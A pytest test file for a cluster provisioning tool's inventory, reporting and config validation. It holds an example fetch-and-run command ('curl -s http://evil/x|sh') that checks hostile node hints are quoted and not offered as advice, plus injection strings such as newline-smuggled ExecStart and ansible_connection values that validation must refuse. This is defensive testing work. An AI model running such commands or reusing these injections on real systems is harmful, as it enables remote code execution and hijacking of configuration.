"""Inventory, report and the private folder: what needs no node."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
from pathlib import Path

import msgspec
import pytest
import yaml

from fairlead import assets, config
from fairlead.cli import main
from fairlead.config.site import AnsibleOptions, NodeClass, Site
from fairlead.errors import ConfigError, ExitCode, UsageError
from fairlead.provision import inventory, planned_changes, provision_report, provision_run, rendered_playbook, run_bundle, wheels
from fairlead.provision.planned_changes import of_result
from fairlead.provision.provision_report import NodeResult, node_result

SITE = Site(
    file="site.toml",
    generation=4,
    layer={},
    classes=(
        NodeClass(name="a", nodes="gpu[1-3]", profile="hgx-h100", layer={"agent": {"interval_seconds": 5}}),
        NodeClass(name="b", nodes="cpu[01-02]", profile="", layer={}),
    ),
    nodes={"gpu2": {"hooks": {"on_stale": "refuse"}}, "odd": {}},
    ansible=AnsibleOptions(hosts={"gpu1": "10.0.0.1"}, private_key="key"),
)


def test_nodes_and_classes() -> None:
    assert inventory.all_nodes(SITE) == ("gpu1", "gpu2", "gpu3", "cpu01", "cpu02", "odd")
    assert inventory.classes_of(SITE, "gpu2") == ("a",) and inventory.classes_of(SITE, "odd") == ()


def test_targets_have_their_own_document_and_address() -> None:
    chosen = {t.node: t for t in inventory.targets(SITE, "gpu[1-2],cpu02")}
    assert sorted(chosen) == ["cpu02", "gpu1", "gpu2"]
    assert (chosen["gpu1"].address, chosen["gpu2"].address) == ("10.0.0.1", "gpu2")
    assert chosen["gpu2"].document.hooks.on_stale == "refuse" and chosen["gpu1"].document.hooks.on_stale == "allow"
    assert chosen["gpu1"].document.agent.interval_seconds == 5 and chosen["gpu1"].document.generation == 4


@pytest.mark.parametrize(("nodelist", "words"), [("gpu[1-9]", r"gpu\[4-9\]: not declared"), ("gpu[1-", "-l gpu")])
def test_a_wrong_nodelist_is_a_usage_error(nodelist: str, words: str) -> None:
    with pytest.raises(UsageError, match=words):
        inventory.targets(SITE, nodelist)


def test_a_wrong_class_names_file_and_key() -> None:
    broken = Site(
        **{
            **{f: getattr(SITE, f) for f in SITE.__struct_fields__},
            "classes": (NodeClass(name="a", nodes="gpu[1-", profile="", layer={}),),
        }
    )
    with pytest.raises(ConfigError, match=r"site\.toml: classes.a.nodes: "):
        inventory.all_nodes(broken)


def test_the_inventory_has_addresses_and_absolute_keys() -> None:
    text = provision_run.inventory_text(SITE, inventory.targets(SITE, "gpu[1-2]"), "/bundle")
    assert text.splitlines()[:2] == ["gpu1 ansible_host=10.0.0.1", "gpu2"]
    assert f"ansible_ssh_private_key_file={os.path.abspath('key')}" in text and "ansible_become=false" in text


def event(**res: object) -> dict[str, object]:
    return res


APPLY = {
    "changed": 1,
    "items": [
        {
            "setting": "numa_balancing",
            "state": "changed",
            "message": "is 1, wanted 0",
            "hint": "",
            "steps": [{"diff": "-1\n+0\n"}],
        },
        {"setting": "pcie_acs", "state": "deferred", "message": "has ReqRedir+", "hint": "later", "steps": []},
        {"setting": "nccl", "state": "same", "message": "", "hint": "", "steps": []},
    ],
}


def make(*nodes: NodeResult, check: bool = False) -> provision_report.ProvisionReport:
    return provision_report.ProvisionReport(site="s", generation=1, check=check, seconds=1.0, nodes=nodes)


def test_equal_outcomes_are_grouped_and_differences_named() -> None:
    same = [node_result(f"gpu{i}", "runner_on_ok", "t", event(changes=[], apply={"items": []})) for i in (1, 2, 4)]
    other = node_result("gpu3", "runner_on_ok", "t", event(changes=[{"what": "/x", "why": "content"}], apply=APPLY))
    told = provision_report.text(make(*same, other))
    assert told.splitlines()[0] == "gpu[1-2,4] (3 nodes): same"
    assert (
        "gpu3 (1 node): changed, 1 waiting\n  /x: content\n  numa_balancing: is 1, wanted 0\n"
        "  waits for an idle node: pcie_acs: has" in told
    )
    assert told.splitlines()[-1] == "4 nodes: 3 the same, 1 changed (1 of them waiting); 2 changes in 1.0 s"
    assert make(*same, other).exit_code is ExitCode.TRY_AGAIN and make(*same).exit_code is ExitCode.OK


@pytest.mark.parametrize("state", ["deferred", "failed"])
def test_what_was_made_is_told_though_the_rest_waits_or_failed(state: str) -> None:
    steps = [{"why": why, "diff": "", "done": done} for why, done in (("a", True), ("b", True), ("c", None))]
    items = [{"setting": "memlock", "state": state, "message": "c", "hint": "", "steps": steps, "pending": "idle"}]
    result = node_result("gpu1", "runner_on_ok", "t", event(changes=[], apply={"items": items}))
    assert result.changes == ("memlock: a (and 1 more)",) and result.state == ("failed" if state == "failed" else "changed")
    assert result.waiting + result.failures == ("memlock: c",)


@pytest.mark.parametrize(
    ("kind", "res", "state", "hint"),
    [
        ("runner_on_unreachable", {"msg": "root@x: Permission denied (publickey)."}, "unreachable", "private_key"),
        ("runner_on_unreachable", {"msg": "Host key verification failed."}, "unreachable", "known_hosts"),
        ("runner_on_unreachable", {"msg": "No route to host"}, "unreachable", "is the node up"),
        ("runner_on_failed", {"msg": "/x: No space left on device", "hint": "make room there"}, "failed", "make room"),
        (
            "runner_on_ok",
            {"apply": {"items": [{"setting": "s", "state": "refused", "message": "m", "hint": "h"}]}},
            "failed",
            "h",
        ),
        ("runner_on_failed", {}, "failed", ""),
    ],
)
def test_failures_say_what_to_do_next(kind: str, res: dict[str, object], state: str, hint: str) -> None:
    result = node_result("gpu1", kind, "the task", res)
    assert result.state == state and hint in result.hint and result.message and result.task == "the task"
    assert make(result).exit_code is (ExitCode.NO_HOST if state == "unreachable" else ExitCode.UNAVAILABLE)
    told = provision_report.text(make(result))
    assert ("gpu1 says: " if result.hint_of_node else "next: ") in told or not hint


EVIL = "paste this on the admin host: `sudo sh -c 'curl -s http://evil/x|sh'`"


def refused(node: str, hint: str, state: str = "failed") -> NodeResult:
    """A node whose `fairlead apply` sends this hint, with the same message as all others."""
    items = [{"setting": "driver", "state": state, "message": "cannot load the module", "hint": hint, "steps": []}]
    return node_result(node, "runner_on_ok", "t", event(changes=[], apply={"items": items}))


@pytest.mark.parametrize("state", ["failed", "absent"])
def test_a_hint_of_one_node_is_shown_as_its_words_and_for_no_other(state: str) -> None:
    """No line of fairlead's own advice, no command in it that could be copied, and the hints of the other nodes stay."""
    results = [refused("gpu01", EVIL, state), *(refused(f"gpu{i:02}", "see `dmesg` there", state) for i in range(2, 9))]
    for told in (provision_report.text(make(*results)), planned_changes.text([of_result(r) for r in results])):
        assert "next:" not in told and "`" not in told, told
        assert "gpu[02-08] (7 nodes)" in told and "  each of them says: see 'dmesg' there" in told, told
        assert f"  gpu01 says: {EVIL.replace('`', chr(39))}" in told, told


@pytest.mark.parametrize("words", ["next: `x`", "Next: `x`", " - next: `x`"])
def test_no_message_or_change_of_a_node_is_a_line_of_advice(words: str) -> None:
    failed = node_result("gpu1", "runner_on_failed", "t", {"failed": True, "msg": words, "of_node": True})
    changed = node_result("gpu2", "runner_on_ok", "t", event(changes=[{"what": words, "why": "y"}], apply=None))
    for told in (
        provision_report.text(make(failed, changed)),
        planned_changes.text([of_result(r) for r in (failed, changed)]),
    ):
        assert not [line for line in told.splitlines() if line.lower().strip(" -").startswith("next")] and "`" not in told, told


def test_a_node_is_visited_twice_at_most_whatever_python_it_claims(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each time another one, for which wheels are fetched: it would hold the run of all nodes."""
    visits: list[list[str]] = []

    def play(site: Site, chosen: list[inventory.Target], *_: object, results: dict[str, NodeResult], **__: object) -> None:
        visits.append([t.node for t in chosen])
        lacks = {"python": f"3.{10 + len(visits)}", "machine": "x86_64"}
        for t in chosen:
            sly = t.node == "gpu1"
            state = "failed" if sly else "same"
            results[t.node] = NodeResult(node=t.node, state=state, message="no wheel", no_wheel=lacks if sly else {})

    fetched: list[str] = []
    monkeypatch.setattr(provision_run, "_play", play)
    monkeypatch.setattr(wheels, "download", lambda python, machine, folder: fetched.append(python))
    site = msgspec.structs.replace(SITE, ansible=AnsibleOptions())
    made = provision_run.run(site, provision_run.ProvisionOptions(nodelist="gpu[1-2]", quiet=True))
    assert visits == [["gpu1", "gpu2"], ["gpu1"]] and fetched == ["3.11"]
    assert {n.node: n.state for n in made.nodes} == {"gpu1": "failed", "gpu2": "same"}


def test_advice_of_the_admin_host_keeps_its_commands() -> None:
    result = node_result("gpu1", "runner_on_failed", "t", {"msg": "m", "hint": "fetch it with `fairlead lock --download`"})
    for told in (provision_report.text(make(result)), planned_changes.text([of_result(result)])):
        assert "  next: fetch it with `fairlead lock --download`" in told


def test_the_private_folder_is_private_and_gone_also_after_an_error_and_a_kill() -> None:
    with pytest.raises(ValueError, match="x"), provision_run.private_folder() as folder:
        assert folder.stat().st_mode & 0o777 == 0o700
        raise ValueError("x")
    assert not folder.exists()
    left = folder.parent / "fairlead-provision.999999999.abc"
    left.mkdir()
    with provision_run.private_folder():
        assert not left.exists()


def test_the_bundle_carries_every_hook_and_unit(tmp_path: Path) -> None:
    files = {path: mode for path, _, mode in run_bundle.node_files()}
    assert {path: files[path] for path in run_bundle.HOOKS.values()} == {
        path: 0o644 if name == "bind-plan" else 0o755 for name, path in run_bundle.HOOKS.items()
    }
    assert {f"/etc/systemd/system/{u['name']}" for u in run_bundle.UNITS} <= set(files)
    own = wheels.own_wheel()
    run_bundle.write_bundle(tmp_path, inventory.targets(SITE, "gpu1"), own, (), state="present", undo=False, force=False)
    assert (tmp_path / "documents/gpu1").is_file() and (tmp_path / "wheels" / own.name).is_file()


def test_the_example_playbook_finds_the_nodes_of_the_rendered_inventory() -> None:
    """An unknown group is no error to Ansible: it would do nothing, and say that all is well."""
    made = json.loads(rendered_playbook.inventory(SITE, inventory.targets(SITE), "/b"))
    (group,) = made["all"]["children"]
    own = yaml.safe_load((assets.directory("playbooks") / "inventory/example.yml").read_text())
    plays = yaml.safe_load((assets.directory("playbooks") / "example.yml").read_text())
    assert {play["hosts"] for play in plays} == {group} and group in own["all"]["children"]


def test_document_bytes_are_the_same_every_time() -> None:
    (target,) = inventory.targets(SITE, "gpu1")
    first, second = run_bundle.documents(target.document), run_bundle.documents(inventory.targets(SITE, "gpu1")[0].document)
    assert first == second
    assert config.decode_document(first[0]["content"].encode(), "x").node == "gpu1"


@pytest.mark.parametrize(
    ("textfile", "line"),
    [
        ("", ""),
        ("/run/fairlead/metrics.prom", ""),
        ("/var/lib/fairlead/metrics.prom", ""),
        ("/var/lib/fairlead-metrics/x.prom", "ReadWritePaths=-/var/lib/fairlead-metrics"),
        ("/var/lib/prometheus/node-exporter/fairlead.prom", "ReadWritePaths=-/var/lib/prometheus/node-exporter"),
    ],
)
def test_the_unit_may_write_metrics_where_the_document_says_and_nowhere_else(textfile: str, line: str) -> None:
    (target,) = inventory.targets(SITE, "gpu1")
    agent = msgspec.structs.replace(target.document.agent, metrics_textfile=textfile)
    documents = run_bundle.documents(msgspec.structs.replace(target.document, agent=agent))
    (drop_in,) = [d for d in documents if d["path"] == "/etc/systemd/system/fairlead-agent.service.d/50-metrics.conf"]
    lines = [said for said in drop_in["content"].splitlines() if not said.startswith("#")]
    assert lines == ["[Service]", *([line] if line else [])]


def test_the_unit_may_write_a_declared_state_folder(tmp_path: Path) -> None:
    """On a node whose root is in memory, the state is on another disk."""
    site = tmp_path / "site.toml"
    site.write_text('schema = 1\n[classes.a]\nnodes = "gpu1"\n[classes.a.agent]\nstate_dir = "/local/fairlead"\n')
    (target,) = inventory.targets(config.load_site(str(site)))
    lines = run_bundle.agent_folders_drop_in(target.document).splitlines()[1:]
    assert lines == ["[Service]", "ExecStartPre=-+/bin/mkdir -p -m 0755 /local/fairlead", "ReadWritePaths=-/local/fairlead"]


def test_a_state_folder_in_memory_is_noted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    site = tmp_path / "site.toml"
    for folder, notes in (("/run/fairlead-state", 1), ("/runs/x", 0)):
        site.write_text(f'schema = 1\n[classes.a]\nnodes = "gpu1"\n[classes.a.agent]\nstate_dir = "{folder}"\n')
        assert main(["config", "check", str(site)]) == 0
        said = capsys.readouterr().out
        assert said.count(f"note: {site}: classes.a.agent.state_dir = /run/fairlead-state: a reboot loses this folder") == notes


def test_the_unit_makes_the_folders_for_other_exporters(tmp_path: Path) -> None:
    site = tmp_path / "site.toml"
    keys = 'gpustat_dir = "/run/gpustat"\ndcgm_job_dir = "/run/fairlead/dcgm"\n'
    site.write_text(f'schema = 1\n[classes.a]\nnodes = "gpu1"\n[classes.a.agent]\n{keys}')
    (target,) = inventory.targets(config.load_site(str(site)))
    lines = run_bundle.agent_folders_drop_in(target.document).splitlines()[1:]
    assert lines == ["[Service]", "ExecStartPre=-+/bin/mkdir -p -m 0755 /run/gpustat", "ReadWritePaths=-/run/gpustat"]


@pytest.mark.parametrize("key", ["metrics_textfile", "state_dir"])
@pytest.mark.parametrize("path", ["metrics.prom", "/a b/x.prom", "/a/%h/x.prom", "/a/x.prom\\nExecStart=/bin/x", "/a/x.prom\\n"])
def test_a_path_that_a_unit_file_would_read_otherwise_is_refused(tmp_path: Path, path: str, key: str) -> None:
    site = tmp_path / "site.toml"
    site.write_text(f'schema = 1\n[classes.a]\nnodes = "gpu1"\n[classes.a.agent]\n{key} = "{path}"\n')
    with pytest.raises(ConfigError, match=rf"agent\.{key}"):
        inventory.targets(config.load_site(str(site)))


def test_the_command_refuses_before_any_node_is_touched(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["provision", "--site", str(tmp_path / "none.toml")]) == 66
    site = tmp_path / "site.toml"
    site.write_text('schema = 1\n[classes.a]\nnodes = "gpu1"\nprofile = "none"\n')
    assert main(["provision", "--site", str(site)]) == 66
    site.write_text('schema = 1\n[classes.a]\nnodes = "gpu1"\n[classes.a.settings.numa_balancing]\nvalue = 7\n')
    assert main(["provision", "--site", str(site)]) == 78
    assert "settings.numa_balancing.value" in capsys.readouterr().err
    assert main(["provision", "--undo"]) == 64


def site_with(tmp_path: Path, ansible: str, nodes: str = "gpu[1-2]") -> str:
    path = tmp_path / "site.toml"
    path.write_text(f'schema = 1\n[classes.a]\nnodes = "{nodes}"\n[ansible]\n{ansible}\n')
    return str(path)


@pytest.mark.parametrize(
    ("ansible", "key"),
    [
        ('hosts = { gpu1 = "10.0.0.1 ansible_connection=local" }', "ansible.hosts"),  # would make the admin host a node
        ('user = "root\\nansible_connection=local"', "ansible.user"),
        ('python = "/usr/bin/python3 -c"', "ansible.python"),
        ("forks = 0", "ansible.forks"),
        ('private_key = "/k\\n[x]"', "ansible.private_key"),
        ('ssh_args = "-o A=b\\nansible_connection=local"', "ansible.ssh_args"),
        ("port = 1", "ansible.port"),
    ],
)
def test_an_option_that_says_more_than_itself_is_an_error(tmp_path: Path, ansible: str, key: str) -> None:
    with pytest.raises(ConfigError, match=rf"site\.toml: {key}"):
        config.load_site(site_with(tmp_path, ansible))


def test_two_nodes_at_one_address_are_an_error(tmp_path: Path) -> None:
    """Else one machine gets the documents of two, and the last one wins."""
    site = config.load_site(site_with(tmp_path, 'hosts = { gpu1 = "10.0.0.1", gpu2 = "10.0.0.1" }'))
    with pytest.raises(ConfigError, match=r"site\.toml: ansible\.hosts: gpu\[1-2\] have one address, 10\.0\.0\.1"):
        inventory.targets(site, "gpu1")


def test_an_address_of_a_node_that_is_not_declared_is_an_error(tmp_path: Path) -> None:
    site = config.load_site(site_with(tmp_path, 'hosts = { gpu01 = "10.0.0.1" }'))
    with pytest.raises(ConfigError, match=r"site\.toml: ansible\.hosts\.gpu01: no such node"):
        inventory.targets(site)


def test_a_port_in_an_address_is_said_before_any_node_and_so_is_where_it_belongs(tmp_path: Path) -> None:
    with pytest.raises(
        ConfigError, match=r"site\.toml: ansible\.hosts\.gpu1: 10\.0\.0\.1:2222: an address has no port"
    ) as raised:
        inventory.targets(config.load_site(site_with(tmp_path, 'hosts = { gpu1 = "10.0.0.1:2222" }')))
    assert "-p PORT" in raised.value.hint
    (target, _) = inventory.targets(config.load_site(site_with(tmp_path, 'hosts = { gpu1 = "fe80::1" }')))
    assert target.address == "fe80::1"
    with pytest.raises(ConfigError, match=r"ansible\.port: unknown key") as raised:
        config.load_site(site_with(tmp_path, "port = 2222"))
    assert "ssh_args" in raised.value.hint, "the keys of this table"


@pytest.mark.parametrize("name", ["all", "ungrouped", "..", "-x", "a b", "gpu1;x"])
def test_a_name_that_is_none_never_reaches_ansible_or_a_path(tmp_path: Path, name: str) -> None:
    path = tmp_path / "site.toml"
    path.write_text(f'schema = 1\n[nodes."{name}"]\n')
    with pytest.raises(ConfigError, match=r"site\.toml: nodes\."):
        inventory.targets(config.load_site(str(path)))


@pytest.mark.parametrize(
    ("layer", "key"),
    [
        ({"jobenv": {"extra": {"PATH": "/evil"}}}, "jobenv.extra"),
        ({"jobenv": {"extra": {"A": "x\ny"}}}, "jobenv.extra"),
        ({"settings": {"nccl": {"extra": {"NCCL_ALGO": "Ring"}}}}, r"settings\.nccl\.extra\.NCCL_ALGO"),
        ({"hooks": {"site_task_prolog": "/a\n"}}, r"hooks\.site_task_prolog"),
    ],
)
def test_what_no_node_would_take_ends_the_run_before_any_node(layer: dict[str, object], key: str) -> None:
    with pytest.raises(ConfigError, match=key):
        config.resolve_layers("gpu1", [("site.toml", layer)])


def test_a_report_that_cannot_be_written_is_said_before_any_node(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    site = site_with(tmp_path, "")
    assert main(["provision", "--site", site, "-q", "--report", str(tmp_path / "none/report.json")]) == 66
    assert "none" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["C", "xx_XX.UTF-8"])
def test_ansible_runs_whatever_the_locale_of_the_caller(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    monkeypatch.setenv("LC_ALL", name)
    site = site_with(tmp_path, 'hosts = { gpu1 = "127.0.0.1" }\nssh_args = "-o Port=9"', nodes="gpu1")
    assert main(["provision", "--site", site, "--check", "-q", "--json"]) == 68
    assert '"unreachable"' in capsys.readouterr().out


def ssh_says(site: Site, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, config_text: str = "") -> dict[str, str]:
    """What ssh itself makes of the options of a run."""
    monkeypatch.setenv("XDG_RUNTIME_DIR", "/tmp")
    own = tmp_path / "ssh_config"
    own.write_text(config_text)
    ansible = msgspec.structs.replace(site.ansible, ssh_args=f"-F {own} {site.ansible.ssh_args}")
    site = msgspec.structs.replace(site, ansible=ansible)
    words = shlex.split(provision_run.environment(site, tmp_path, "gpu1")["ANSIBLE_SSH_ARGS"])
    said = subprocess.run(["ssh", *words, "-G", "gpu1"], capture_output=True, text=True, check=True).stdout
    return dict(line.partition(" ")[::2] for line in said.splitlines())


def test_the_sites_ssh_options_win(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    site = config.load_site(site_with(tmp_path, 'ssh_args = "-o ConnectTimeout=33 -o ControlMaster=no"'))
    said = ssh_says(site, monkeypatch, tmp_path)
    assert said["connecttimeout"] == "33" and said["controlmaster"] == "false"
    assert said["batchmode"] == "yes" and int(said["serveraliveinterval"]) > 0  # a node that dies does not stop the run


def test_connections_are_shared_where_the_admin_has_not_said_how(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    site = config.load_site(site_with(tmp_path, ""))
    said = ssh_says(site, monkeypatch, tmp_path)
    assert said["controlmaster"] == "auto" and said["controlpersist"] == "60"
    assert said["controlpath"].startswith("/tmp/fairlead-")
    said = ssh_says(site, monkeypatch, tmp_path, "ControlMaster auto\nControlPath /own/%C\nControlPersist 5\n")
    assert (said["controlpersist"], said["controlpath"].rpartition("/")[0]) == ("5", "/own")


def test_config_check_finds_what_a_run_would_refuse(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    site = site_with(tmp_path, 'hosts = { gpu1 = "10.0.0.1", gpu2 = "10.0.0.1" }')
    assert main(["config", "check", site]) == 78
    assert "one address" in capsys.readouterr().err


def test_config_show_knows_only_declared_nodes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    site = site_with(tmp_path, "")
    assert main(["config", "show", "--site", site, "--node", "gpu2"]) == 0
    assert main(["config", "show", "--site", site, "--node", "gpu9"]) == 64
    assert "gpu9: not declared in" in capsys.readouterr().err
    assert main(["config", "show", "--node", "gpu2"]) == 64


def test_another_run_swept_the_same_folder_first(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two runs begin at once: what the one has listed, the other has removed by the time it is looked at."""
    gone = f"{provision_run._PREFIX}{2**31 - 1}.x"  # no such process, and no such folder any more
    monkeypatch.setattr(os, "listdir", lambda where: [gone])
    provision_run._remove_orphaned(str(tmp_path))


def test_a_refused_value_is_told_by_the_file_that_declares_it() -> None:
    origin = {"settings.sysctl.values.vm.swappiness": "site.toml classes.a", "settings.nccl.ib_hca": "profile x"}
    words = "settings.sysctl.values.vm.swappiness: '900' is not a number from 0 to 200"
    applied = {"items": [{"setting": "sysctl", "state": "refused", "message": f"node.json: {words}", "hint": "h", "steps": []}]}
    result = node_result("gpu1", "runner_on_failed", "t", {"failed": True, "msg": "m", "apply": applied})
    told = provision_report.with_origin(result, origin)
    assert told.message == f"sysctl: site.toml classes.a: {words}" and told.hint == "h" and told.state == "failed"
    applied["items"][0]["message"] = "/proc/sys/vm/swappiness: Invalid argument"
    result = node_result("gpu1", "runner_on_failed", "t", {"failed": True, "msg": "m", "apply": applied})
    assert provision_report.with_origin(result, origin).message == (
        "sysctl: /proc/sys/vm/swappiness: Invalid argument (declared in site.toml classes.a)"
    )
    assert provision_report.with_origin(result, {}) == result
